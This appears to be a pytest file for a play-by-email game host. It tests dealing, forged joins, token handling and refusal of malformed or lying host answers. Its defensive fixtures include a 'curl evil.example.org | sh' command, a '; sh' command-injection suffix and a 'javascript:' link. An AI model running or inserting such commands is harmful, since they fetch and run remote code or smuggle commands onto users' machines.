"""A host that deals, among strangers, copies, other hosts and troubles: it deals on."""

import json
import time
from collections.abc import Callable
from dataclasses import replace
from http.server import BaseHTTPRequestHandler
from pathlib import Path
from typing import Any

import pytest
import urllib3

from pbem.files.home import Home
from pbem.judge.make_signed_records import Plan, invite_to, make_charter
from pbem.mail.write_and_describe_bundle import format_bundle
from tests.host.dealing import (
    FORM,
    POOL,
    everybody_joins,
    game_from_form,
    response_of_host,
    wait_for_turn,
)
from tests.host.host_games import bot_answers
from tests.host.lying_host import LyingHost, answer_with
from tests.kit.people import NOW, Round, key_of, output_of
from tests.kit.processes import until
from tests.kit.record_files import record_at
from tests.kit.running_host import HostProcess
from tests.kit.small_mail_servers import BO, RHEA, mail_host, use_small_servers
from tests.post.collecting import mail_with_text

pytestmark = pytest.mark.host


def test_a_host_does_not_deal_for_a_copy_of_its_game_at_another_address(dealing_host, table):
    """Eve, who knows the address of a game, makes a game of the same charter at one of her own."""
    people = everybody_joins(dealing_host, table, FORM | {"players": "Ann,Bo"})
    address = people[0].env["PBEM_FOLDER"]
    wait_for_turn(address, 1)
    there = [
        line.split()[0]
        for line in POOL.request("GET", f"{address}/").data.decode().split("\n")
        if line
    ]
    for n in range(8):  # whatever the order in which the host finds them
        copy = f"{dealing_host.url}/g/{n:032x}"
        for path in sorted(there, key=lambda path: (path != "game.toml", "turns" in path)):
            data = POOL.request("GET", f"{address}/{path}").data
            said = POOL.request("PUT", f"{copy}/{path}", body=data, headers={"If-None-Match": "*"})
            assert said.status == 201, said.data
    dealing_host.stop()
    dealing_host.start()
    for who, seat in zip(people, "ab", strict=True):
        bot_answers(who, address, seat)
    wait_for_turn(address, 2)
    time.sleep(1)
    assert b"turns/0002" not in POOL.request("GET", f"{dealing_host.url}/g/{0:032x}/").data


def test_two_hosts_with_different_keys_over_one_folder_both_deal(start_process, tmp_path: Path):
    hosts = [
        start_process("--deal", home=name, SOURCE_DATE_EPOCH=str(NOW)) for name in ("one", "two")
    ]
    for n, host in enumerate(hosts):
        people = everybody_joins(host, Round(tmp_path / f"people{n}"), FORM)
        wait_for_turn(people[0].env["PBEM_FOLDER"], 1)


def test_a_game_made_at_a_waiting_host_is_dealt_by_the_active_one(start_process, tmp_path, table):
    one = start_process("--deal", home="one", SOURCE_DATE_EPOCH=str(NOW))
    game_from_form(one, FORM)  # it deals
    key = Home(tmp_path / "one" / "dealer").read_key("default")
    Home(tmp_path / "two" / "dealer").write_key("default", key)
    two = start_process("--deal", home="two", SOURCE_DATE_EPOCH=str(NOW))
    people = everybody_joins(two, table, FORM)
    wait_for_turn(people[0].env["PBEM_FOLDER"], 1)


def test_odd_requests_to_a_host_that_deals_are_refused(dealing_host: HostProcess):
    game = game_from_form(dealing_host, FORM)
    digits = game["address"][-32:]
    assert response_of_host(dealing_host, f"/new/{digits}/%C3%A9").status == 404
    assert response_of_host(dealing_host, f"/new/{'0' * 32}/{'0' * 32}").status == 404
    assert response_of_host(dealing_host, "/new/x/y").status == 404
    said = response_of_host(dealing_host, "/new", {f"field{n}": "1" for n in range(60)})
    assert said.status == 400
    assert b"too many fields" in said.data


def test_several_tables_that_people_deal_themselves_are_several_commands(dealing_host: HostProcess):
    form = FORM | {"players": "Al,Bo,Cy,Di", "each": "2", "dealer": "me"}
    assert response_of_host(dealing_host, "/new", form).data.decode().count('value="pbem new ') == 2


def test_a_token_that_the_browser_sends_by_itself_makes_no_game(start_process, tmp_path):
    """Somebody else's page can send a form to the host, and the browser adds what was typed for
    `/games` or `/owner`."""
    (tmp_path / "token").write_text("correct-horse\n")
    options = ["--deal", "--token-file", str(tmp_path / "token")]
    host = start_process(*options)

    def sent(word: str, form: dict[str, str]) -> int:
        headers = urllib3.util.make_headers(basic_auth=f"me:{word}")
        url = f"{host.url}/new"
        said = POOL.request(
            "POST", url, fields=form, encode_multipart=False, headers=headers, redirect=False
        )
        return said.status

    assert sent("correct-horse", FORM) == 400
    assert sent("the-owners-password", FORM | {"token": "correct-horse"}) == 303
    guesses = [
        response_of_host(host, "/new", FORM | {"token": f"guess-{n}"}).status for n in range(130)
    ]
    assert guesses[-1] == 429, "nobody tries out many words"


def test_a_game_that_a_host_cannot_read_stops_no_other(dealing_host: HostProcess, table: Round):
    people = everybody_joins(dealing_host, table, FORM | {"players": "Ann,Bo"})
    address = people[0].env["PBEM_FOLDER"]
    wait_for_turn(address, 1)
    folders = set(Path(dealing_host.data).glob("?" * 32))
    game_from_form(dealing_host, FORM)
    (other,) = set(Path(dealing_host.data).glob("?" * 32)) - folders
    other.rename(other.with_name("elsewhere"))
    other.write_text("the disk is not what it was")
    time.sleep(5)  # the host looks at it now and then
    for who, seat in zip(people, "ab", strict=True):
        bot_answers(who, address, seat)
    wait_for_turn(address, 2)


def test_nobody_gets_mail_because_a_join_came_in_their_name(dealing_host, table, tmp_path):
    """Eve has all invites of the game that she started. She writes to the host in Bo's name."""
    game = game_from_form(dealing_host, FORM | {"players": "Eve,Bo"})
    eve = table.person("eve")
    copy = tmp_path / "copy"
    copy.mkdir()
    (copy / "game.toml").write_bytes(POOL.request("GET", f"{game['address']}/game.toml").data)
    invite = game["seats"][1]["command"].rpartition(" ")[2]
    output_of(eve, f"join -C {copy} --invite {invite}")
    text = format_bundle([record_at(next((copy / "seats").iterdir()))], "join")
    owner = replace(table.person("owner"), home=dealing_host.home / "dealer")
    with mail_host() as host:
        use_small_servers(owner, host)
        host.put(RHEA, mail_with_text(BO, text))
        dealing_host.stop()
        dealing_host.start()
        listed = f"{game['address']}/"
        is_read = lambda: b"seats/b" in POOL.request("GET", listed).data  # noqa: E731
        until(is_read, every=0.5, why=dealing_host.log.read_text)
        time.sleep(3)
        assert host.mails(BO) == []
    assert "b Bo: -" in owner.pbem(f"post address -C {game['address']}").out


INVITE = "pond:a:X:0:Y"
COMMAND = f"pbem join -C http://pond.example.org/g/{'5eed' * 8} --invite {INVITE}"
GAME = {
    "title": "pond", "address": f"http://pond.example.org/g/{'5eed' * 8}",
    "page": f"/new/{'5eed' * 8}/{'5eed' * 8}",
    "seats": [
        {
            "name": "Ann", "link": "",
            "command": COMMAND,
        }
    ],
}  # fmt: skip


def changed_game(change: Callable[[Any], Any]) -> bytes:
    """The answer of a host to `pbem new --dealer host`, with something else in it."""
    game = json.loads(json.dumps(GAME))
    return json.dumps(change(game) or [game]).encode()


@pytest.mark.parametrize(
    "data",
    [
        b"\xff", b"null", b"[]", b"[[]]", b"{}", b"[1]", b"[" * 100_000, b"1" * 10_000,
        changed_game(lambda game: [game, game]),
        changed_game(lambda game: game.pop("address")),
        changed_game(lambda game: game.update(title=None)),
        changed_game(lambda game: game.update(title="pond\nerror: you lost")),
        changed_game(lambda game: game.update(page="http://evil.example.org/")),
        changed_game(lambda game: game.update(seats=None)),
        changed_game(lambda game: game.update(seats=["Ann"])),
        changed_game(lambda game: game["seats"][0].update(command="curl evil.example.org | sh")),
        changed_game(lambda game: game["seats"][0].update(command=COMMAND + "; sh")),
        changed_game(lambda game: game["seats"][0].update(link="javascript:alert(1)")),
        changed_game(lambda game: game["seats"][0].update(name={"Ann": 1})),
    ],
)  # fmt: skip
def test_a_malformed_or_dangerous_answer_of_a_host_to_pbem_new_is_refused(lying_host, table, data):
    """People type the lines that it answers with, and send them to their friends."""
    words = f"new pond --players Ann,Bo --at {lying_host.url} --dealer host"
    lying_host.answer = answer_with(201, data, "application/json")
    said = table.person("ann").pbem(words)
    assert (said.exit, said.out) == (7, ""), said
    assert "the server at this address is not a host of pbem games" in said.err


ASKED_PLAN = Plan(
    "pond", "the host", "evolution", ["Ann", "Bo"], automaton=True,
    options={"together": "yes", "autofeed": "yes"}, policies={"deadline": "48h"},
)  # fmt: skip
"""What `pbem new --players Ann,Bo --dealer host` asks for."""


def answers_with_charter(
    liar: LyingHost, plan: Plan, invited_plan: Plan | None = None
) -> Callable[[BaseHTTPRequestHandler], None]:
    """The answers of a host that made a game with such a charter; its invites may be those of
    another charter."""
    charter = make_charter(plan, key_of("host"), bytes(16))
    invited_charter = make_charter(invited_plan or plan, key_of("host"), bytes(16))
    seats = []
    for seat in invited_charter.content.seats:
        if not seat.bot:
            line = invite_to(invited_charter, key_of("host"), seat.seat).line()
            command = f"pbem join -C {liar.address} --invite {line}"
            seats.append({"name": seat.name, "link": "", "command": command})
    game = json.dumps([GAME | {"address": liar.address, "seats": seats}]).encode()

    def answer(request: BaseHTTPRequestHandler) -> None:
        if request.command == "POST":
            answer_with(201, game, "application/json")(request)
        elif request.path.endswith("/"):
            answer_with(200, f"game.toml {len(charter.file)}\n".encode(), etag='"1"')(request)
        else:
            answer_with(200, charter.file)(request)

    return answer


LYING_PLANS = {
    "a person who deals": (
        {"automaton": False},
        "its game.toml says that a person deals, not the host",
    ),
    "other people": ({"players": ["Ann", "Eve"]}, "its players are Ann and Eve"),
    "one more": ({"players": ["Ann", "Bo", "Eve"]}, "its players are Ann, Bo and Eve"),
    "other seats": ({"players": ["Bo", "Ann"]}, "its players are Bo and Ann"),
    "a bot": (
        {"players": ["Ann", "Bo", "Cy"], "plays": ["c"], "bots": {"c": "greedy"}},
        "it has 1 bot",
    ),
    "other rules": (
        {"ruleset": "digital", "options": {"together": "yes"}},
        "it is a game of digital",
    ),
    "other variants": ({"options": {}}, "it has other options of the rules"),
    "another deadline": ({"policies": {"deadline": "1h"}}, "its deadline is 1h"),
}


@pytest.mark.parametrize("lie", LYING_PLANS)
def test_a_host_that_made_another_game_is_refused(lying_host: LyingHost, table: Round, lie: str):
    """Whoever started it would give links to it to their friends."""
    change, sentence = LYING_PLANS[lie]
    lying_host.answer = answers_with_charter(lying_host, replace(ASKED_PLAN, **change))
    said = table.person("ann").pbem(
        f"new pond --players Ann,Bo --at {lying_host.url} --dealer host"
    )
    assert (said.exit, said.out) == (4, "")
    assert "the host made a different game from the one that you asked for" in said.err
    assert sentence in said.err


def test_a_hosts_invites_to_another_game_are_refused(lying_host: LyingHost, table: Round):
    words = f"new pond --players Ann,Bo --at {lying_host.url} --dealer host"
    lying_host.answer = answers_with_charter(lying_host, ASKED_PLAN)
    assert "made pond:" in output_of(table.person("ann"), words), "an honest answer is taken"
    other_plan = replace(ASKED_PLAN, title="puddle")
    lying_host.answer = answers_with_charter(lying_host, ASKED_PLAN, other_plan)
    said = table.person("ann").pbem(words)
    assert (said.exit, said.out) == (4, "")
    assert "its invites are for other seats, or for another game" in said.err
